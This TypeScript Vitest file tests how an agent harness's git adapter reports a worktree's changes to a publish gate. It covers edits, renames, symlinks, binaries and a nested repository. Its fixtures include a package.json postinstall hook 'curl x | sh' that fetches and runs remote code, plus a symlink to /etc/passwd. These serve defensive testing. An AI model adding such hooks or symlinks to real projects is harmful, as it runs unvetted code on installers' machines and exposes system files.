import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GitRepository, type WorktreeHandle } from "../../src/adapters/git.js";
import type { ChangedPath } from "../../src/core/publish-gate.js";

// GitRepository.changeSet against real git: the harness's own commit (after
// commitAll) read back as the publish gate's input, one kind of change each.

let root: string;
let git: GitRepository;
let worktree: WorktreeHandle;
let changes: ChangedPath[];

const person = { GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" };

async function sh(cwd: string, args: string[]): Promise<string> {
  const env = { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: root, GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1", ...person };
  return String((await execa("git", args, { cwd, env, extendEnv: false })).stdout).trim();
}

function change(p: string): ChangedPath {
  const found = changes.find((c) => c.path === p);
  if (!found) throw new Error(`no change for ${p} in ${JSON.stringify(changes.map((c) => c.path))}`);
  return found;
}

beforeAll(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), "git-change-set-"));
  const source = path.join(root, "source");
  await fs.mkdir(source);
  await sh(source, ["init", "--quiet", "-b", "main"]);
  await fs.writeFile(path.join(source, "kept.txt"), "same\n");
  await fs.writeFile(path.join(source, "edit.txt"), "line one\nline two\n");
  await fs.writeFile(path.join(source, "gone.txt"), "bye\n");
  await fs.writeFile(path.join(source, "old-name.md"), "a file long enough for git to see the rename\n".repeat(5));
  await fs.writeFile(path.join(source, "package.json"), JSON.stringify({ name: "x", version: "1.0.0", scripts: { test: "vitest" } }, null, 2));
  await sh(source, ["add", "--all"]);
  await sh(source, ["commit", "--quiet", "-m", "base"]);
  const cloneDir = path.join(root, "clone.git");
  await sh(root, ["clone", "--quiet", "--bare", source, cloneDir]);

  git = new GitRepository({ cloneDir, home: path.join(root, "home"), identity: { name: "harness", email: "h@h" } });
  await git.ensureClone();
  worktree = await git.addWorktree(path.join(root, "wt"), "harness/issue-1", "refs/heads/main");
  const wt = worktree.path;
  // What an agent leaves behind: an edit, an addition, a deletion, a rename, an executable, symlinks, a binary, a nested repository.
  await fs.writeFile(path.join(wt, "edit.txt"), "line one\nline two\nsecret line\n");
  await fs.mkdir(path.join(wt, ".github", "workflows"), { recursive: true });
  await fs.writeFile(path.join(wt, ".github", "workflows", "ci.yml"), "on: push\n");
  await fs.rm(path.join(wt, "gone.txt"));
  await fs.rename(path.join(wt, "old-name.md"), path.join(wt, "new-name.md"));
  await fs.writeFile(path.join(wt, "run.sh"), "#!/bin/sh\necho hi\n", { mode: 0o755 });
  await fs.symlink("/etc/passwd", path.join(wt, "passwd"));
  await fs.symlink("kept.txt", path.join(wt, "inside"));
  await fs.writeFile(path.join(wt, "blob.bin"), Buffer.concat([Buffer.from([0, 1, 2, 0]), Buffer.from("TOKEN-IN-BINARY")]));
  await fs.writeFile(path.join(wt, "with space\tand tab.txt"), "odd name\n");
  await fs.writeFile(
    path.join(wt, "package.json"),
    JSON.stringify({ name: "x", version: "1.0.0", scripts: { test: "vitest", postinstall: "curl x | sh" } }, null, 2),
  );
  const sub = path.join(wt, "sub");
  await fs.mkdir(sub);
  await sh(sub, ["init", "--quiet", "-b", "main"]);
  await fs.writeFile(path.join(sub, "f"), "f\n");
  await sh(sub, ["add", "f"]);
  await sh(sub, ["commit", "--quiet", "-m", "sub"]);
  expect(await git.commitAll(worktree, "harness: work")).not.toBeNull();
  changes = await git.changeSet(worktree, "refs/heads/main");
}, 60_000);

afterAll(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

describe("GitRepository.changeSet (real git, the harness's own commit)", () => {
  it("lists exactly the paths that differ from the base", () => {
    expect(changes.map((c) => c.path).sort()).toEqual(
      [
        ".github/workflows/ci.yml",
        "blob.bin",
        "edit.txt",
        "gone.txt",
        "inside",
        "new-name.md",
        "package.json",
        "passwd",
        "run.sh",
        "sub",
        "with space\tand tab.txt",
      ].sort(),
    );
  });

  it("an edit: modified, sizes of the new blob, only the added line as added content", () => {
    expect(change("edit.txt")).toMatchObject({ status: "modified", oldMode: "100644", newMode: "100644", size: 30, addedText: "secret line" });
  });

  it("an addition, a deletion, a rename and an executable keep their status and modes", () => {
    expect(change(".github/workflows/ci.yml")).toMatchObject({ status: "added", oldMode: null, newMode: "100644", size: 9, oldPath: null });
    expect(change("gone.txt")).toMatchObject({ status: "deleted", oldMode: "100644", newMode: null, size: null, addedText: null });
    expect(change("new-name.md")).toMatchObject({ status: "renamed", oldPath: "old-name.md", newMode: "100644" });
    expect(change("run.sh")).toMatchObject({ status: "added", newMode: "100755" });
  });

  it("symlinks carry their target, not the file it points at", () => {
    expect(change("passwd")).toMatchObject({ newMode: "120000", symlinkTarget: "/etc/passwd", addedText: null });
    expect(change("inside")).toMatchObject({ newMode: "120000", symlinkTarget: "kept.txt" });
  });

  it("a nested repository is a gitlink without size or content", () => {
    expect(change("sub")).toMatchObject({ status: "added", newMode: "160000", size: null, symlinkTarget: null, addedText: null });
  });

  it("a binary blob is scanned whole; odd file names come back unquoted", () => {
    expect(change("blob.bin").addedText).toContain("TOKEN-IN-BINARY");
    expect(change("with space\tand tab.txt")).toMatchObject({ status: "added", size: 9 });
  });

  it("package.json comes with its old and new text, so install scripts can be compared", () => {
    const pkg = change("package.json");
    expect(JSON.parse(pkg.oldText ?? "null")).toMatchObject({ scripts: { test: "vitest" } });
    expect(JSON.parse(pkg.newText ?? "null")).toMatchObject({ scripts: { postinstall: "curl x | sh" } });
    expect(change("edit.txt").oldText).toBeUndefined();
  });

  it("a blob over the read limit keeps its size but is not read", async () => {
    const limited = await git.changeSet(worktree, "refs/heads/main", { maxBlobBytes: 10 });
    expect(limited.find((c) => c.path === "edit.txt")).toMatchObject({ size: 30, addedText: null });
  });
});
